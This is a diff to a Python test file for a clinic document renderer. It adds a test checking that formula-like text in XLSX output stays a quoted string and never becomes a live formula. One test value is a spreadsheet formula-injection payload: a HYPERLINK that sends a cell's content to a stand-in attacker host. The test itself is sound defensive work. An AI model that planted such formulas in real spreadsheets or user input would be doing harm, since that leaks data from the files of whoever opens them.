@@ -3,6 +3,7 @@
 import io
 import re
 import subprocess
+import zipfile
 from datetime import date, datetime
 from pathlib import Path
 
@@ -145,6 +146,30 @@ def test_statement_xlsx_has_typed_cells_header_and_filters() -> None:
     values = [row for row in about.iter_rows(values_only=True)]
     assert ("Номер документа", "СМУ-20260105-000042", None) in values
     assert any(row[0] == "Итого" and row[1] == 3 for row in values)
+
+
+def test_clinic_texts_that_look_like_formulas_stay_texts() -> None:
+    texts = {
+        "service_name": '=HYPERLINK("https://evil.example/?"&A1,"Открыть")',
+        "outcome": "+1+1",
+        "organization_name": "@SUM(1,2)-2+3",
+    }
+    spec = DocumentSpec(DocumentKind.STATEMENT, DocumentFormat.XLSX)
+    data = render(content(spec, (service(0).model_copy(update=texts),)), spec.format)
+
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    for text in texts.values():
+        found = [cell for cell in cells if cell.value == text]
+        assert found, text  # kept whole: no apostrophe or space put in front
+        for cell in found:
+            assert cell.data_type == "s"
+            assert cell.quotePrefix
+    assert not [cell for cell in cells if cell.data_type == "f"]
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets
+        assert not [n for n in sheets if b"<f>" in archive.read(n) or b"<f " in archive.read(n)]
 
 
 async def test_the_pool_starts_warming_up_without_waiting_and_renders_meanwhile() -> None:
